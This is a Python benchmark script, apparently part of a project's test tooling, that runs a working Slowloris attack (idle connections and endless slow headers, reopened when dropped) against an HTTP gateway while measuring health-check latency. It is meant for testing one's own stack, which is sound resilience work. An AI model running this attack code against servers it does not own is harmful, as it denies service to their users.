#!/usr/bin/env python3
"""Slowloris against the gateway: holds N idle or slow connections open and,
meanwhile, measures how long a normal client waits for GET /health/.

Attack connections (one thread, non-blocking sockets):
  idle  connect and send nothing;
  slow  send the request line, then one byte of an endless header every
        --interval seconds, so the headers never end;
  mixed half of each.
When the server closes one (its request timeout), it is opened again at once
unless --no-reconnect, so the pressure stays at N for the whole run.

The probe (another thread) opens a fresh connection every --probe-interval
seconds, sends GET <path> and waits up to --timeout seconds for the answer.

Prints the attack's figures (connections held, how long the server kept them)
and the probe's (answered, failed, latency min/p50/p90/p99/max). Exit status
1 when a probe failed or took longer than --max-latency (when given).

  bench/slowloris.py --url http://127.0.0.1:8080 --connections 500 --mode slow
Only the Python standard library; run it against a stack of your own
(`make run`, or the one bench/api.sh starts with KEEP=1).
"""
import argparse
import errno
import http.client
import selectors
import socket
import statistics
import sys
import threading
import time
import urllib.parse


class Attack:
    """N attack connections kept open (and reopened) from one thread."""

    def __init__(self, host, port, n, mode, interval, reconnect):
        self.host, self.port, self.n = host, port, n
        self.mode, self.interval, self.reconnect = mode, interval, reconnect
        self.sel = selectors.DefaultSelector()
        self.opened = 0
        self.connect_failures = 0
        self.closed_by_server = []  # seconds each connection lived
        self.stop = threading.Event()
        self.peak_open = 0

    def _kind(self, i):
        if self.mode == "mixed":
            return "slow" if i % 2 else "idle"
        return self.mode

    def _open(self, i):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        rc = s.connect_ex((self.host, self.port))
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            self.connect_failures += 1
            return
        state = {"i": i, "kind": self._kind(i), "opened": time.monotonic(), "connected": False,
                 "next_send": 0.0, "sent": 0}
        self.sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, state)
        self.opened += 1

    @staticmethod
    def _payload(state):
        """The next bytes of a request whose headers never end: the request line and the
        start of a header first, then one more byte of that header's value each time."""
        return b"GET / HTTP/1.1\r\nHost: slowloris\r\nX-Slow: " if state["sent"] == 0 else b"a"

    def _close(self, s, state, by_server):
        self.sel.unregister(s)
        s.close()
        if by_server:
            self.closed_by_server.append(time.monotonic() - state["opened"])
        if by_server and self.reconnect and not self.stop.is_set():
            self._open(state["i"])

    def open_all(self):
        for i in range(self.n):
            self._open(i)

    def run(self):
        while not self.stop.is_set():
            now = time.monotonic()
            for key, events in self.sel.select(timeout=0.2):
                s, state = key.fileobj, key.data
                if events & selectors.EVENT_WRITE and not state["connected"]:
                    err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                    if err:
                        self.connect_failures += 1
                        self._close(s, state, by_server=False)
                        continue
                    state["connected"] = True
                    self.sel.modify(s, selectors.EVENT_READ, state)
                if events & selectors.EVENT_READ:
                    try:
                        data = s.recv(4096)
                    except OSError:
                        data = b""
                    if not data:
                        self._close(s, state, by_server=True)
                        continue
            self.peak_open = max(self.peak_open, len(self.sel.get_map()))
            for key in list(self.sel.get_map().values()):
                s, state = key.fileobj, key.data
                if state["kind"] != "slow" or not state["connected"] or now < state["next_send"]:
                    continue
                try:
                    state["sent"] += s.send(self._payload(state))
                    state["next_send"] = now + self.interval
                except OSError:
                    self._close(s, state, by_server=True)

    def still_open(self):
        return len(self.sel.get_map())

    def close(self):
        for key in list(self.sel.get_map().values()):
            self.sel.unregister(key.fileobj)
            key.fileobj.close()


def probe(host, port, path, timeout):
    """One normal request on a fresh connection: (ok, seconds, what)."""
    started = time.monotonic()
    conn = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        conn.request("GET", path)
        resp = conn.getresponse()
        resp.read()
        return resp.status == 200, time.monotonic() - started, str(resp.status)
    except (OSError, http.client.HTTPException) as e:
        return False, time.monotonic() - started, type(e).__name__
    finally:
        conn.close()


def percentile(sorted_values, q):
    if not sorted_values:
        return float("nan")
    k = min(len(sorted_values) - 1, max(0, int(round(q * (len(sorted_values) - 1)))))
    return sorted_values[k]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--url", default="http://127.0.0.1:8080")
    ap.add_argument("--path", default="/health/")
    ap.add_argument("--connections", type=int, default=500)
    ap.add_argument("--mode", choices=("idle", "slow", "mixed"), default="mixed")
    ap.add_argument("--interval", type=float, default=3.0, help="seconds between slow bytes")
    ap.add_argument("--duration", type=float, default=30.0, help="seconds of probing")
    ap.add_argument("--settle", type=float, default=2.0,
                    help="seconds between opening the connections and the first probe")
    ap.add_argument("--probe-interval", type=float, default=0.5)
    ap.add_argument("--timeout", type=float, default=30.0, help="a probe's own deadline")
    ap.add_argument("--max-latency", type=float, default=None,
                    help="exit 1 when a probe takes longer (seconds)")
    ap.add_argument("--no-reconnect", dest="reconnect", action="store_false")
    args = ap.parse_args()

    url = urllib.parse.urlsplit(args.url)
    host, port = url.hostname, url.port or 80
    ok0, base, what0 = probe(host, port, args.path, args.timeout)
    if not ok0:
        print(f"the server does not answer {args.path} before the attack: {what0}", file=sys.stderr)
        return 2

    attack = Attack(host, port, args.connections, args.mode, args.interval, args.reconnect)
    attack.open_all()
    runner = threading.Thread(target=attack.run, daemon=True)
    runner.start()
    time.sleep(args.settle)

    results = []
    end = time.monotonic() + args.duration
    while time.monotonic() < end:
        started = time.monotonic()
        results.append(probe(host, port, args.path, args.timeout))
        time.sleep(max(0.0, args.probe_interval - (time.monotonic() - started)))
    open_at_end = attack.still_open()
    attack.stop.set()
    runner.join()
    attack.close()

    ok = sorted(t for good, t, _ in results if good)
    failed = [(t, what) for good, t, what in results if not good]
    lifetimes = sorted(attack.closed_by_server)
    print(f"slowloris: {args.connections} {args.mode} connections to {args.url} "
          f"(slow: a byte every {args.interval:g} s; reconnect: {'yes' if args.reconnect else 'no'})")
    print(f"  attack: opened {attack.opened}, connect failures {attack.connect_failures}, "
          f"peak open {attack.peak_open}, open at the end {open_at_end}, "
          f"closed by the server {len(lifetimes)}")
    if lifetimes:
        print(f"  server kept an attack connection: median {statistics.median(lifetimes):.1f} s, "
              f"max {lifetimes[-1]:.1f} s")
    print(f"  probe GET {args.path}: {len(results)} sent, {len(ok)} answered 200, "
          f"{len(failed)} failed (before the attack: {base * 1000:.1f} ms)")
    if ok:
        print("  latency ms: min {:.1f}  p50 {:.1f}  p90 {:.1f}  p99 {:.1f}  max {:.1f}".format(
            *(1000 * v for v in (ok[0], percentile(ok, 0.5), percentile(ok, 0.9),
                                 percentile(ok, 0.99), ok[-1]))))
    for t, what in failed[:5]:
        print(f"  failed after {t:.1f} s: {what}")
    too_slow = args.max_latency is not None and ok and ok[-1] > args.max_latency
    return 1 if failed or too_slow else 0


if __name__ == "__main__":
    sys.exit(main())
